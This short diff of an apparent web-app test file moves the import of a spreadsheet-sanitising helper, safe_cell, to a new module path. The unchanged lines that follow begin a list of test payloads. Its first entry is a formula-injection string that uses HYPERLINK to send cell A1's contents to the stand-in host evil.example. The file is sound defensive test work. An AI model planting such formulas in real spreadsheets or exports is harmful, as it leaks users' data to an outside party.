@@ -13,7 +13,7 @@ from planner.model import Report
 from tests.web.conftest import add_reports
 from tests.web.test_coach import coach_signup
 from tests.web.test_roster import seed_roster
-from web.spreadsheet import safe_cell
+from web.core.spreadsheet import safe_cell
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
